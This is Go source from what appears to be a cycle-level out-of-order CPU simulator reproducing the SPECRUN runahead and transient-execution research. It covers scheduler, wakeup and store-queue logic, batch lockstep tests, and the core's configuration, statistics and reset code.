// age-ordered, so this is a linear two-way merge (through the scratch
// buffer, reusing its storage cycle over cycle).
func (c *CPU) mergeReplay() {
	merged := c.readyScratch[:0]
	i, j := 0, 0
	for i < len(c.ready) && j < len(c.replay) {
		if c.ready[i].seq < c.replay[j].seq {
			merged = append(merged, c.ready[i])
			i++
		} else {
			merged = append(merged, c.replay[j])
			j++
		}
	}
	merged = append(merged, c.ready[i:]...)
	merged = append(merged, c.replay[j:]...)
	c.readyScratch = c.ready[:0]
	c.ready = merged
	c.replay = c.replay[:0]
}

// writebackPhase completes executed uops whose latency has elapsed, waking
// dependants and resolving control flow.  The oldest mispredicted control
// instruction triggers recovery: younger uops are squashed, the RAT and
// predictor state are restored from the instruction's checkpoints, and
// fetch is redirected.  In-flight cache fills survive — that persistence is
// the Spectre/SPECRUN channel.
//
// The in-flight list is kept age-ordered by insertion (issue inserts by
// seq), so oldest-first processing needs no per-cycle sort, and recoveries
// mid-scan only ever squash entries not yet reached.
func (c *CPU) writebackPhase(now uint64) {
	if c.pollSched {
		c.writebackPhasePoll(now)
		return
	}
	if len(c.inflight) == 0 {
		return
	}
	out := c.inflight[:0]
	for _, u := range c.inflight {
		if u.squashed {
			continue
		}
		if u.stage != stIssued {
			// Completed outside writeback — the runahead stalling load is
			// poisoned to stDone by enterRunahead (which wakes its waiters
			// itself).  Drop it here exactly as the polling reference's
			// compact does: commit is about to recycle it, and a retained
			// pointer would re-enter this list as a stale duplicate once the
			// pool hands it out again.
			continue
		}
		if u.doneAt > now {
			out = append(out, u)
			continue
		}
		u.stage = stDone
		if c.traceFn != nil {
			c.traceEmit(TraceComplete, u)
		}
		c.wakeWaiters(u, now)
		if !u.addrValid && u.isStore() && u.seq == c.sqUnknown {
			// An INV-address store completing stops blocking younger loads
			// (it never writes); advance the watermark past it.
			c.recomputeSQUnknown()
		}
		if u.isCtl() && !u.unresolved && c.mispredicted(u) {
			// Oldest-first processing guarantees entries already completed
			// this cycle are older than u and survive the squash.
			c.recover(u, now)
		}
	}
	c.inflight = out
}

// addWaiter registers (u, src) on producer p's wakeup list, drawing chunk
// storage from the CPU-level pool.
func (c *CPU) addWaiter(p, u *uop, src int8) {
	t := p.wTail
	if t == nil || t.n == len(t.ws) {
		var nc *waiterChunk
		if n := len(c.wchunkPool); n > 0 {
			nc = c.wchunkPool[n-1]
			c.wchunkPool = c.wchunkPool[:n-1]
		} else {
			nc = new(waiterChunk)
		}
		if t == nil {
			p.wHead = nc
		} else {
			t.next = nc
		}
		p.wTail = nc
		t = nc
	}
	t.ws[t.n] = waiter{u: u, seq: u.seq, src: src}
	t.n++
}

// dropWaiters returns a uop's waiter chunks to the pool.
func (c *CPU) dropWaiters(p *uop) {
	for ch := p.wHead; ch != nil; {
		nx := ch.next
		ch.n, ch.next = 0, nil
		c.wchunkPool = append(c.wchunkPool, ch)
		ch = nx
	}
	p.wHead, p.wTail = nil, nil
}

// wakeWaiters broadcasts a completed producer's result to its registered
// consumers: each live waiter's operand is captured, issue-gating operands
// decrement the consumer's pending count (hitting zero moves it into the
// ready queue), and a store's data operand completes the STD half of an
// already-issued split store.  Entries whose consumer was squashed — or
// recycled into a new uop, detected by the seq check — are skipped.
func (c *CPU) wakeWaiters(p *uop, now uint64) {
	for ch := p.wHead; ch != nil; ch = ch.next {
		for i := 0; i < ch.n; i++ {
			w := &ch.ws[i]
			cu := w.u
			if cu.seq != w.seq || cu.squashed {
				continue
			}
			o := &cu.srcs[w.src]
			if o.ready {
				continue
			}
			o.val, o.val2, o.inv = p.result, p.result2, p.resINV
			o.producer = nil
			o.ready = true
			if cu.pd.Kind == isa.KindStore && int(w.src) == cu.nsrc-1 {
				// STD half of a split store: if the STA half already issued,
				// the store completes one cycle after the datum arrives.
				if cu.dataPending {
					cu.storeVal, cu.storeVal2 = o.val, o.val2
					cu.storeINV = o.inv
					cu.dataPending = false
					cu.doneAt = now + 1
				}
				continue
			}
			cu.pendIssue--
			if cu.pendIssue == 0 && cu.stage == stDispatched && !cu.inReady {
				c.readyInsert(cu)
			}
		}
	}
	c.dropWaiters(p)
}

// readyPush appends a just-dispatched uop to the ready queue.  Dispatch
// hands out strictly increasing seqs, so the youngest uop always belongs at
// the back.
func (c *CPU) readyPush(u *uop) {
	u.inReady = true
	c.ready = append(c.ready, u)
}

// readyInsert places a woken uop into the ready queue at its age position.
func (c *CPU) readyInsert(u *uop) {
	u.inReady = true
	c.ready = insertBySeq(c.ready, u)
}

// insertBySeq inserts u into the seq-ascending slice s.  The common case
// (u younger than everything present) is a plain append.
func insertBySeq(s []*uop, u *uop) []*uop {
	i := len(s)
	for i > 0 && s[i-1].seq > u.seq {
		i--
	}
	s = append(s, nil)
	copy(s[i+1:], s[i:])
	s[i] = u
	return s
}

// ---- age-indexed store queue ----

// sqLink threads a store whose address just resolved into the per-line
// disambiguation chains — one chain node per cache line the store writes
// (two when it crosses a line boundary).  Chains hold only live stores with
// valid addresses: commit, squash and Reset unlink eagerly, so loads never
// validate entries.
func (c *CPU) sqLink(u *uop) {
	size := u.pd.MemSize
	l0 := c.hier.LineAddr(u.addr)
	l1 := c.hier.LineAddr(u.addr + uint64(size) - 1)
	u.sqNodes[0].line = l0
	u.sqNLines = 1
	if l1 != l0 {
		u.sqNodes[1].line = l1
		u.sqNLines = 2
	}
	for k := int8(0); k < u.sqNLines; k++ {
		n := &u.sqNodes[k]
		n.u = u
		head := c.sqLineIdx[n.line]
		n.prev, n.next = nil, head
		if head != nil {
			head.prev = n
		}
		c.sqLineIdx[n.line] = n
	}
	u.sqLinked = true
}

// sqUnlink removes a store from its line chains (no-op if never linked).
func (c *CPU) sqUnlink(u *uop) {
	if !u.sqLinked {
		return
	}
	for k := int8(0); k < u.sqNLines; k++ {
		n := &u.sqNodes[k]
		if n.prev != nil {
			n.prev.next = n.next
		} else if n.next != nil {
			c.sqLineIdx[n.line] = n.next
		} else {
			delete(c.sqLineIdx, n.line)
		}
		if n.next != nil {
			n.next.prev = n.prev
		}
		n.prev, n.next, n.u = nil, nil, nil
	}
	u.sqLinked = false
	u.sqNLines = 0
}

// storeAddrUnknown reports whether a store still blocks younger loads as
// "address unknown": its address has not resolved and it is not a completed
// INV-address store (which never writes).
func storeAddrUnknown(st *uop) bool {
	return !st.addrValid && !(st.stage == stDone && st.resINV)
}

// recomputeSQUnknown rescans the store-queue ring for the oldest store whose
// address is still unknown and resets the watermark (0 = none).  Called only
// on transitions — an address resolving, an INV-address store completing, or
// the watermark holder leaving the queue — so the scan amortises to O(1) per
// store.
func (c *CPU) recomputeSQUnknown() {
	for i := 0; i < c.sqr.len(); i++ {
		if st := c.sqr.at(i); storeAddrUnknown(st) {
			c.sqUnknown = st.seq
			return
		}
	}
	c.sqUnknown = 0
}

// scanSQ checks older stores for ordering hazards.  It returns the youngest
// fully-covering older store for forwarding, or blocked=true if any older
// store has an unknown address or partially overlaps.
//
// The watermark answers the unknown-address case in O(1): if the oldest
// unknown-address store is older than the load, the load is blocked; if it
// is younger (or there is none), every older store has a known address and
// only the chains of the lines the load reads need walking.  Chain order is
// arbitrary — the blocked/forward decision is order-independent: any older
// overlapping store that is not a data-ready full cover blocks, and among
// full covers the youngest forwards.  (The polling reference scans the whole
// queue oldest-first and stops at the first blocker; both formulations
// block on exactly the same condition, so the outcomes agree — pinned by
// the scheduler equivalence suite and the SQ corner tests.)
func (c *CPU) scanSQ(u *uop, size int) (fwd *uop, blocked bool) {
	if c.pollSched {
		return c.scanSQPoll(u, size)
	}
	if c.sqUnknown != 0 && c.sqUnknown < u.seq {
		return nil, true // an older store's address is unknown: conservative stall
	}
	l0 := c.hier.LineAddr(u.addr)
	l1 := c.hier.LineAddr(u.addr + uint64(size) - 1)
	for {
		for n := c.sqLineIdx[l0]; n != nil; n = n.next {
			st := n.u
			if st.seq >= u.seq {
				continue // younger store: no ordering constraint
			}
			stSize := st.pd.MemSize
			if st.addr+uint64(stSize) <= u.addr || u.addr+uint64(size) <= st.addr {
				continue // same line, disjoint bytes
			}
			if st.addr <= u.addr && st.addr+uint64(stSize) >= u.addr+uint64(size) && size <= 8 && st.stage == stDone {
				if fwd == nil || st.seq > fwd.seq {
					fwd = st // full cover, data ready: forward (youngest wins)
				}
				continue
			}
			if size == 16 && st.addr == u.addr && stSize == 16 && st.stage == stDone {
				if fwd == nil || st.seq > fwd.seq {
					fwd = st
				}
				continue
			}
			return nil, true // partial overlap or data not ready: wait
		}
		if l0 == l1 {
			return fwd, false
		}
		l0 = l1 // load crosses a line boundary: walk the second chain too
	}
}
