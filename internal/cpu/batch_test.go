package cpu

import (
	"encoding/json"
	"errors"
	"testing"

	"specrun/internal/asm"
	"specrun/internal/isa"
	"specrun/internal/proggen"
)

// TestBatchMatchesSerialRun pins the batch driver's correctness contract: a
// program run on a lockstep lane produces byte-identical statistics and
// committed state to the same program on a solo machine, across lane counts
// and Reset-reuse rounds.
func TestBatchMatchesSerialRun(t *testing.T) {
	const budget = 50_000_000
	cfg := DefaultConfig()
	progs := make([]*asm.Program, 4)
	want := make([]string, len(progs))
	wantR1 := make([]uint64, len(progs))
	for i := range progs {
		progs[i] = proggen.Generate(int64(100+i), proggen.DefaultOptions())
		c := New(cfg, progs[i])
		if err := c.Run(budget); err != nil {
			t.Fatalf("solo run %d: %v", i, err)
		}
		b, _ := json.Marshal(c.Stats())
		want[i] = string(b)
		wantR1[i] = c.IntReg(1)
	}

	for _, lanes := range []int{1, 4} {
		b := NewBatch(cfg, lanes)
		for round := 0; round < 2; round++ { // round 2 exercises Reset-reuse
			for lo := 0; lo < len(progs); lo += lanes {
				hi := min(lo+lanes, len(progs))
				errs := b.RunPrograms(progs[lo:hi], budget)
				for j, err := range errs {
					i := lo + j
					if err != nil {
						t.Fatalf("lanes=%d round=%d prog %d: %v", lanes, round, i, err)
					}
					got, _ := json.Marshal(b.CPU(j).Stats())
					if string(got) != want[i] {
						t.Errorf("lanes=%d round=%d prog %d stats diverged:\nbatch: %s\nsolo:  %s", lanes, round, i, got, want[i])
					}
					if r1 := b.CPU(j).IntReg(1); r1 != wantR1[i] {
						t.Errorf("lanes=%d round=%d prog %d: r1 = %#x, want %#x", lanes, round, i, r1, wantR1[i])
					}
				}
			}
		}
	}
}

// TestBatchParallelMatchesSerial pins SetParallel's invariance: sharding the
// lanes across goroutines changes nothing observable.
func TestBatchParallelMatchesSerial(t *testing.T) {
	const budget = 50_000_000
	cfg := DefaultConfig()
	progs := make([]*asm.Program, 4)
	for i := range progs {
		progs[i] = proggen.Generate(int64(200+i), proggen.DefaultOptions())
	}
	serial := NewBatch(cfg, len(progs))
	if errs := serial.RunPrograms(progs, budget); errs[0] != nil || errs[3] != nil {
		t.Fatalf("serial batch errors: %v", errs)
	}
	par := NewBatch(cfg, len(progs))
	par.SetParallel(2)
	if errs := par.RunPrograms(progs, budget); errs[0] != nil || errs[3] != nil {
		t.Fatalf("parallel batch errors: %v", errs)
	}
	for i := range progs {
		a, _ := json.Marshal(serial.CPU(i).Stats())
		b, _ := json.Marshal(par.CPU(i).Stats())
		if string(a) != string(b) {
			t.Errorf("prog %d: parallel stats diverged:\nserial:   %s\nparallel: %s", i, a, b)
		}
	}
}

// TestLockstepErrorParity pins the error contract: a lane that deadlocks or
// exhausts its budget reports exactly what a solo Run would, and terminated
// lanes do not perturb lanes still running.
func TestLockstepErrorParity(t *testing.T) {
	// No HALT: fetch runs off the text and the machine livelocks.
	db := asm.NewBuilder(0x1000, 0x10000)
	db.Movi(isa.R(1), 42)
	dead, err := db.Build()
	if err != nil {
		t.Fatal(err)
	}
	// An endless loop: exhausts any budget without deadlocking.
	lb := asm.NewBuilder(0x1000, 0x10000)
	lb.Label("loop")
	lb.Addi(isa.R(1), isa.R(1), 1)
	lb.Jmp("loop")
	spin, err := lb.Build()
	if err != nil {
		t.Fatal(err)
	}
	halting := proggen.Generate(300, proggen.DefaultOptions())

	cfg := DefaultConfig()
	const budget = 1_000_000
	soloErr := func(p *asm.Program) error { return New(cfg, p).Run(budget) }
	wantDead, wantSpin, wantHalt := soloErr(dead), soloErr(spin), soloErr(halting)
	if !errors.Is(wantDead, ErrDeadlock) || !errors.Is(wantSpin, ErrMaxCycles) || wantHalt != nil {
		t.Fatalf("solo error shapes unexpected: %v / %v / %v", wantDead, wantSpin, wantHalt)
	}

	ms := []*CPU{New(cfg, dead), New(cfg, spin), New(cfg, halting), nil}
	errs := make([]error, len(ms))
	RunLockstep(ms, budget, errs)
	if errs[0] == nil || errs[0].Error() != wantDead.Error() {
		t.Errorf("deadlock lane: %v, want %v", errs[0], wantDead)
	}
	if !errors.Is(errs[1], ErrMaxCycles) {
		t.Errorf("spin lane: %v, want ErrMaxCycles", errs[1])
	}
	if errs[2] != nil {
		t.Errorf("halting lane: %v, want nil", errs[2])
	}
	if errs[3] != nil {
		t.Errorf("nil lane: %v, want nil", errs[3])
	}
	if got, want := ms[1].Stats().Cycles, ms[1].Cycle(); got != want || got < budget {
		t.Errorf("spin lane Stats.Cycles = %d, want %d", got, want)
	}
}
