// Package cpu implements the cycle-level out-of-order processor model of the
// SPECRUN paper (Table 1, Fig. 6): a 4-wide superscalar core with a 256-entry
// reorder buffer, speculative wrong-path execution with real cache side
// effects, runahead execution (original, precise and vector variants) with
// INV poison tracking and pseudo-retirement, and the secure runahead
// extensions of §6 (SL cache + taint tracking).
//
// Design notes:
//
//   - Decoupled functional/timing model: data values live in a flat memory
//     image plus the store queue and runahead cache; caches carry tags and
//     fill timing only.  Cache fills issued by squashed (wrong-path or
//     runahead) instructions persist — the transient-execution side channel.
//   - Values are captured in reorder-buffer entries (uops); the register
//     alias table maps architectural registers to in-flight producers and is
//     checkpointed per control instruction for single-cycle recovery.
//   - The committed architectural state advances only at retirement, so the
//     reference interpreter (internal/iss) and this core must agree on final
//     state for any program — enforced by differential tests.
package cpu

import (
	"errors"
	"fmt"
	"sync/atomic"

	"specrun/internal/asm"
	"specrun/internal/branch"
	"specrun/internal/isa"
	"specrun/internal/mem"
	"specrun/internal/runahead"
	"specrun/internal/secure"
)

// SecureConfig enables the §6 defense.
type SecureConfig struct {
	Enabled   bool `json:"enabled"`
	SLEntries int  `json:"sl_entries"` // SL cache capacity in lines
	SLLatency int  `json:"sl_latency"` // SL cache hit latency in cycles
}

// Config is the full machine configuration (defaults per Table 1).  The JSON
// tags define the stable wire format used by the HTTP API and the JSON CLI
// output; partial documents decode over DefaultConfig.
type Config struct {
	FetchWidth    int `json:"fetch_width"`
	DecodeWidth   int `json:"decode_width"`
	DispatchWidth int `json:"dispatch_width"`
	IssueWidth    int `json:"issue_width"`
	CommitWidth   int `json:"commit_width"`
	FrontEndDepth int `json:"front_end_depth"` // front-end stages between fetch and dispatch

	ROBSize int `json:"rob_size"`
	IQSize  int `json:"iq_size"`
	LQSize  int `json:"lq_size"`
	SQSize  int `json:"sq_size"`

	IntPRF int `json:"int_prf"` // physical register file sizes (rename resources)
	FPPRF  int `json:"fp_prf"`
	VecPRF int `json:"vec_prf"`

	IntALU   int `json:"int_alu"` // functional unit counts
	IntMul   int `json:"int_mul"`
	IntDiv   int `json:"int_div"`
	FPAdd    int `json:"fp_add"`
	FPMul    int `json:"fp_mul"`
	FPDiv    int `json:"fp_div"`
	MemPorts int `json:"mem_ports"`

	FrontQ int `json:"front_q"` // fetch buffer capacity

	Mem      mem.Config      `json:"mem"`
	Branch   branch.Config   `json:"branch"`
	Runahead runahead.Config `json:"runahead"`
	Secure   SecureConfig    `json:"secure"`
}

// DefaultConfig returns the Table 1 processor configuration with original
// runahead execution enabled.
func DefaultConfig() Config {
	return Config{
		FetchWidth:    4,
		DecodeWidth:   4,
		DispatchWidth: 4,
		IssueWidth:    4,
		CommitWidth:   4,
		FrontEndDepth: 6,
		ROBSize:       256,
		IQSize:        40,
		LQSize:        40,
		SQSize:        40,
		// Table 1 prints 80 int / 40 fp / 40 xmm registers, but with a
		// 256-entry ROB that would starve rename long before the window
		// fills, contradicting both the paper's Fig. 7 baseline and [13]'s
		// observation that backend resources suffice.  The default sizes the
		// register files to the window; Table1RegisterFiles() restores the
		// printed values for sensitivity studies.
		IntPRF:   256 + 32,
		FPPRF:    128 + 16,
		VecPRF:   128 + 16,
		IntALU:   4,
		IntMul:   2,
		IntDiv:   1,
		FPAdd:    2,
		FPMul:    1,
		FPDiv:    1,
		MemPorts: 2,
		FrontQ:   16,
		Mem:      mem.DefaultConfig(),
		Branch:   branch.DefaultConfig(),
		Runahead: runahead.DefaultConfig(),
		Secure:   SecureConfig{Enabled: false, SLEntries: 64, SLLatency: 2},
	}
}

// Table1RegisterFiles returns cfg with the literal Table 1 register-file
// sizes (80 int / 40 fp / 40 xmm).  With the 256-entry ROB these bind the
// effective window at ~48 in-flight integer writers; the ablation benchmark
// quantifies the effect.
func Table1RegisterFiles(cfg Config) Config {
	cfg.IntPRF, cfg.FPPRF, cfg.VecPRF = 80, 40, 40
	return cfg
}

// Mode is the execution mode of the core.
type Mode uint8

const (
	// ModeNormal is ordinary out-of-order execution.
	ModeNormal Mode = iota
	// ModeRunahead is speculative pre-execution past a stalling load.
	ModeRunahead
)

// Stats aggregates per-run counters.
type Stats struct {
	Cycles        uint64 `json:"cycles"`
	Committed     uint64 `json:"committed"`
	PseudoRetired uint64 `json:"pseudo_retired"`
	Fetched       uint64 `json:"fetched"`
	Dispatched    uint64 `json:"dispatched"`
	Issued        uint64 `json:"issued"`
	Squashed      uint64 `json:"squashed"`

	CondBranches    uint64 `json:"cond_branches"`
	CondMispredicts uint64 `json:"cond_mispredicts"`
	INVBranches     uint64 `json:"inv_branches"` // unresolved branches inside runahead (the SPECRUN window)

	RunaheadEpisodes uint64   `json:"runahead_episodes"`
	RunaheadCycles   uint64   `json:"runahead_cycles"`
	EpisodeReaches   []uint64 `json:"episode_reaches,omitempty"` // transient reach (uops past the stalling load) per episode
	MaxStallWindow   uint64   `json:"max_stall_window"`          // normal-mode in-flight high-water mark during memory stalls
	ROBFullCycles    uint64   `json:"rob_full_cycles"`
	SLWaits          uint64   `json:"sl_waits"` // loads stalled on SL-cache branch gating
	VectorPrefetches uint64   `json:"vector_prefetches"`
	DroppedPRE       uint64   `json:"dropped_pre"`     // non-slice uops dropped in precise runahead mode
	SkipBarriers     uint64   `json:"skip_barriers"`   // INV-branch fetch barriers (SkipINVBranch mitigation)
	LoadBlockedSQ    uint64   `json:"load_blocked_sq"` // load issue attempts blocked by older stores
	RAPrefIssued     uint64   `json:"ra_pref_issued"`  // memory-level fills issued during runahead (prefetches)
}

// IPC returns committed instructions per cycle.
func (s *Stats) IPC() float64 {
	if s.Cycles == 0 {
		return 0
	}
	return float64(s.Committed) / float64(s.Cycles)
}

// MaxEpisodeReach returns the largest transient reach across episodes.
func (s *Stats) MaxEpisodeReach() uint64 {
	var m uint64
	for _, r := range s.EpisodeReaches {
		if r > m {
			m = r
		}
	}
	return m
}

// Run-termination errors.
var (
	ErrMaxCycles = errors.New("cpu: cycle budget exhausted before HALT")
	ErrDeadlock  = errors.New("cpu: no forward progress (livelock or fetch off the program)")
)

// runaheadState tracks one runahead episode.
type runaheadState struct {
	checkpoint   archState
	stallingPC   uint64
	stallingSeq  uint64
	stallDone    uint64 // cycle the stalling load's fill arrives (exit condition)
	episode      uint64
	maxSeq       uint64 // highest seq dispatched during the episode
	fetchBarrier bool   // SkipINVBranch mitigation engaged
}

// CPU is the simulated core.
type CPU struct {
	cfg  Config
	prog *asm.Program

	memImg  *mem.Memory
	hier    *mem.Hierarchy
	bp      *branch.Predictor
	raCache *mem.RunaheadCache

	// Precise/vector runahead helpers.
	rdt     *runahead.RDT
	strides *runahead.StrideDetector

	// Secure runahead.
	sl       *secure.SLCache
	tracker  *secure.Tracker
	slActive bool
	// resolvedOK is the paper's S[]: scope id -> correctly predicted.  Scope
	// ids are bounded at 63 per episode (secure.Tracker exhausts its tag
	// space there), so the set is an epoch-tagged array: an entry is "set"
	// iff it carries the current scopeEpoch, and clearing it for a new
	// episode is a single counter bump.
	resolvedOK [64]uint64
	scopeEpoch uint64

	arch archState
	rat  rat

	mode Mode
	ra   runaheadState

	cycle uint64
	seq   uint64

	// Front end.
	fetchPC         uint64
	fetchStallUntil uint64
	fetchBlocked    bool // ran off the program text or past HALT; waits for redirect
	lastFetchLine   uint64
	frontQ          *uopRing

	// Per-PC predecode cache: one uop template per static instruction,
	// filled lazily the first time a PC is fetched (pd[i].Op == isa.BAD
	// marks an unfilled slot; BAD never assembles).  Every dynamic instance
	// shares the template, so fetch/dispatch read flat fields instead of
	// re-deriving kind/FU/operand metadata per fetch.
	pd []isa.Predecoded

	// Back end.  The event-driven scheduler (sched.go, the default) selects
	// from the age-ordered ready/replay queues and tracks IQ/LQ occupancy as
	// counters; the polling reference (sched_poll.go) keeps the iq/lq/sq
	// slices it rescans every cycle.  Both share the ROB and in-flight list.
	rob      *uopRing
	inflight []*uop // issued, awaiting completion; age-ordered under the event scheduler

	ready        []*uop // operand-ready uops awaiting select, age-ordered
	replay       []*uop // ready uops blocked on a non-operand condition (uop.replayWhy)
	readyScratch []*uop // merge buffer for mergeReplay
	iqUsed       int
	lqUsed       int
	sqr          *uopRing           // live stores in age order (front oldest)
	sqLineIdx    map[uint64]*sqNode // line addr -> chain of stores writing it
	sqUnknown    uint64             // seq of the oldest store with an unknown address (0 = none)

	pollSched bool   // use the polling reference scheduler (differential tests)
	iq        []*uop // polling reference only; allocated by SetPollingReference
	lq        []*uop
	sq        []*uop

	// uop recycling (see the uop type for the safety argument).  deadNew and
	// deadOld hold squashed uops that the lazily-compacted queues may still
	// reference; a uop squashed in step T is out of every queue by the end of
	// step T+1, so the end-of-step drain frees deadOld and rotates the lists.
	uopPool          []*uop
	ratPool          []*rat
	wchunkPool       []*waiterChunk
	deadNew, deadOld []*uop

	// Rename resources in use.
	intPRFUsed, fpPRFUsed, vecPRFUsed int

	// Per-cycle FU accounting.  fuUsed counts are valid only for the cycle
	// stamped in fuStamp; consumeFU batch-clears them on the first claim of
	// a new cycle, so the issue phase no longer zeroes the array every cycle
	// (most cycles issue nothing from several FU classes).
	fuUsed   [8]int // indexed by isa.FU for pipelined units
	fuStamp  uint64 // cycle the fuUsed counts belong to
	divBusy  []uint64
	fdivBusy []uint64

	halted         bool
	lastProgress   uint64
	dispatchedPrev int // uops dispatched in the previous cycle (halt detection)
	dispatchedNow  int
	stats          Stats

	// debugRA, when set, receives a line per runahead entry/exit (tests).
	debugRA func(format string, args ...any)

	// Observation hooks: occupancy sampling (SetSampler), per-uop lifecycle
	// tracing (SetTracer), commit-stream observation (SetCommitHook) and the
	// microarchitectural leak tap (SetObserver).
	sampleEvery uint64
	sampleFn    func(Sample)
	traceFn     func(TraceEvent)
	commitFn    func(CommitRecord)
	obsFn       func(Observation)
}

// New builds a CPU running prog.  The program's data segments are loaded
// into a fresh memory image; fetch starts at prog.Base.
//
// Every capacity-bounded structure is sized up front: the steady-state tick
// loop performs no heap allocation, and Reset returns the machine to this
// state without rebuilding any of it.
func New(cfg Config, prog *asm.Program) *CPU {
	m := mem.NewMemory()
	prog.LoadInto(m)
	c := &CPU{
		cfg:          cfg,
		prog:         prog,
		memImg:       m,
		hier:         mem.NewHierarchy(cfg.Mem),
		bp:           branch.New(cfg.Branch),
		raCache:      mem.NewRunaheadCache(cfg.Runahead.RunaheadCacheBytes),
		rdt:          runahead.NewRDT(),
		strides:      runahead.NewStrideDetector(),
		sl:           secure.NewSLCache(cfg.Secure.SLEntries),
		scopeEpoch:   1,
		fetchPC:      prog.Base,
		frontQ:       newRing(cfg.FrontQ),
		rob:          newRing(cfg.ROBSize),
		inflight:     make([]*uop, 0, cfg.ROBSize),
		ready:        make([]*uop, 0, cfg.IQSize),
		replay:       make([]*uop, 0, cfg.IQSize),
		readyScratch: make([]*uop, 0, cfg.IQSize),
		sqr:          newRing(cfg.SQSize),
		sqLineIdx:    make(map[uint64]*sqNode, 2*cfg.SQSize),
		divBusy:      make([]uint64, cfg.IntDiv),
		fdivBusy:     make([]uint64, cfg.FPDiv),
		pd:           make([]isa.Predecoded, len(prog.Insts)),
	}
	// Seed the uop pool from one slab: enough for a full window plus the
	// fetch buffer and one squash generation in flight.  The pool still
	// grows on demand if a pathological schedule needs more.
	slab := make([]uop, 2*(cfg.ROBSize+cfg.FrontQ))
	c.uopPool = make([]*uop, 0, len(slab))
	for i := range slab {
		c.uopPool = append(c.uopPool, &slab[i])
	}
	return c
}

// Reset rewinds the machine to its just-constructed state and loads prog,
// reusing every allocation: caches, predictor tables, pooled uops and
// checkpoints, queue storage and memory pages.  A Reset machine is
// indistinguishable from New(cfg, prog) — same cycle-level timing, same
// statistics — which the regression tests pin; sweep and difftest workers
// rely on it to run one machine per worker instead of one per job.
// Installed observers (SetSampler, SetTracer, SetCommitHook, debug hooks)
// are kept.
func (c *CPU) Reset(prog *asm.Program) {
	// Drain the pipeline back into the pool (stores leave the
	// disambiguation index first, while their chain nodes are still live).
	for c.sqr.len() > 0 {
		c.sqUnlink(c.sqr.popFront())
	}
	c.sqUnknown = 0
	for c.rob.len() > 0 {
		c.freeUOp(c.rob.popBack())
	}
	for c.frontQ.len() > 0 {
		c.freeUOp(c.frontQ.popFront())
	}
	for _, u := range c.deadNew {
		c.freeUOp(u)
	}
	c.deadNew = c.deadNew[:0]
	for _, u := range c.deadOld {
		c.freeUOp(u)
	}
	c.deadOld = c.deadOld[:0]
	c.iq = c.iq[:0]
	c.lq = c.lq[:0]
	c.sq = c.sq[:0]
	c.inflight = c.inflight[:0]
	c.ready = c.ready[:0]
	c.replay = c.replay[:0]
	c.iqUsed, c.lqUsed = 0, 0

	c.prog = prog
	c.memImg.Reset()
	prog.LoadInto(c.memImg)
	c.hier.Reset()
	c.bp.Reset()
	c.raCache.Reset()
	c.rdt.Reset()
	c.strides.Reset()
	c.sl.Reset()
	if c.tracker != nil {
		c.tracker.Reset()
	}
	c.slActive = false
	c.resolvedOK = [64]uint64{}
	c.scopeEpoch = 1

	c.arch = archState{}
	c.rat.reset()
	c.mode = ModeNormal
	c.ra = runaheadState{}
	c.cycle, c.seq = 0, 0

	c.fetchPC = prog.Base
	c.fetchStallUntil = 0
	c.fetchBlocked = false
	c.lastFetchLine = 0

	if cap(c.pd) >= len(prog.Insts) {
		c.pd = c.pd[:len(prog.Insts)]
		clear(c.pd)
	} else {
		c.pd = make([]isa.Predecoded, len(prog.Insts))
	}

	c.intPRFUsed, c.fpPRFUsed, c.vecPRFUsed = 0, 0, 0
	c.fuUsed = [8]int{}
	// The cycle counter rewinds to 0; park the stamp on a cycle no run can
	// reach so stale counts never alias a fresh cycle's.
	c.fuStamp = ^uint64(0)
	for i := range c.divBusy {
		c.divBusy[i] = 0
	}
	for i := range c.fdivBusy {
		c.fdivBusy[i] = 0
	}

	c.halted = false
	c.lastProgress = 0
	c.dispatchedPrev, c.dispatchedNow = 0, 0
	reaches := c.stats.EpisodeReaches[:0]
	c.stats = Stats{EpisodeReaches: reaches}
}

// Mem returns the functional memory image (committed state).
func (c *CPU) Mem() *mem.Memory { return c.memImg }

// Hier returns the cache hierarchy for harness-side probing.
func (c *CPU) Hier() *mem.Hierarchy { return c.hier }

// Predictor exposes the branch predictor (tests).
func (c *CPU) Predictor() *branch.Predictor { return c.bp }

// SL exposes the SL cache (tests, stats).
func (c *CPU) SL() *secure.SLCache { return c.sl }

// Stats returns the accumulated statistics.
func (c *CPU) Stats() *Stats { return &c.stats }

// Cycle returns the current cycle.
func (c *CPU) Cycle() uint64 { return c.cycle }

// Halted reports whether HALT has committed.
func (c *CPU) Halted() bool { return c.halted }

// IntReg reads a committed integer register.
func (c *CPU) IntReg(i int) uint64 { return c.arch.intv[i] }

// FPReg reads a committed floating-point register.
func (c *CPU) FPReg(i int) uint64 { return c.arch.fpv[i] }

// VecReg reads a committed vector register.
func (c *CPU) VecReg(i int) [2]uint64 { return c.arch.vecv[i] }

// Mode returns the current execution mode.
func (c *CPU) Mode() Mode { return c.mode }

// progressWindow is the number of cycles without a retirement after which
// Run declares a deadlock.
const progressWindow = 200_000

// simCycles is the process-wide count of cycles simulated by every Run call
// on every machine — the service-level "work done" meter exported on the
// server's /metrics endpoint.  One atomic add per Run keeps it off the tick
// loop's profile.
var simCycles atomic.Uint64

// SimCyclesTotal reports the total cycles simulated process-wide.
func SimCyclesTotal() uint64 { return simCycles.Load() }

// Run advances the machine until HALT commits or maxCycles elapse.
// Stats.Cycles is brought up to date on every exit path, including the
// deadlock one — callers inspecting IPC() after an error see the cycles the
// machine actually burned, not a stale count from a previous Run call.
func (c *CPU) Run(maxCycles uint64) error {
	start := c.cycle
	err := c.run(maxCycles)
	simCycles.Add(c.cycle - start)
	return err
}

func (c *CPU) run(maxCycles uint64) error {
	limit := c.cycle + maxCycles
	for !c.halted && c.cycle < limit {
		c.step()
		if c.cycle-c.lastProgress > progressWindow {
			c.stats.Cycles = c.cycle
			return fmt.Errorf("%w at cycle %d (pc %#x, mode %d)", ErrDeadlock, c.cycle, c.fetchPC, c.mode)
		}
	}
	c.stats.Cycles = c.cycle
	if !c.halted {
		return ErrMaxCycles
	}
	return nil
}

// step advances one clock cycle.
func (c *CPU) step() {
	now := c.cycle

	// Runahead exit has priority: the stalling load's data arrived.
	if c.mode == ModeRunahead {
		c.stats.RunaheadCycles++
		if now >= c.ra.stallDone {
			c.exitRunahead(now)
		}
	}

	c.commitPhase(now)
	c.writebackPhase(now)
	c.issuePhase(now)
	c.dispatchedNow = 0
	c.dispatchPhase(now)
	c.dispatchedPrev = c.dispatchedNow
	c.fetchPhase(now)

	if c.rob.full() {
		c.stats.ROBFullCycles++
	}
	c.sampleTick()
	c.cycle++

	// Recycle uops squashed one full step ago: every lazily-compacted queue
